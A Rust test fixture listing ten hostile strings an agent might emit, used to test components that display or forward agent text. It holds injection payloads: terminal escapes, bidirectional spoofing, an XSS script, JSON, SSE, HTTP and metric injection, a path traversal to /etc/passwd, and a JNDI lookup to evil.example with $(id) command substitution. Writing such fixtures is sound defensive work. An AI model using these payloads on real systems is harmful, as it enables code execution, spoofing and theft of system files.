//! Hostile texts of an agent, for the tests of everything that shows or passes them on.

/// Terminal escapes, bidirectional text, markup, and texts that would end an event, a header or a metric.
pub(crate) const HOSTILE: [&str; 10] = [
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m",
    "\u{202e}gnp.exe\u{2066}\u{2069}\u{200f}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"}],\"status\":\"answered",
    "one\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "data: {}\n\nevent: question.resolved\ndata: {}\n\n",
    "a\"} 1\naskbridge_bridges 99\n",
    "\u{0}\u{8}\u{7f}\u{fffd}\u{feff}\u{2028}\u{2029}",
    "../../etc/passwd?a=b#c%00",
    "${jndi:ldap://evil.example}$(id)`id`",
];
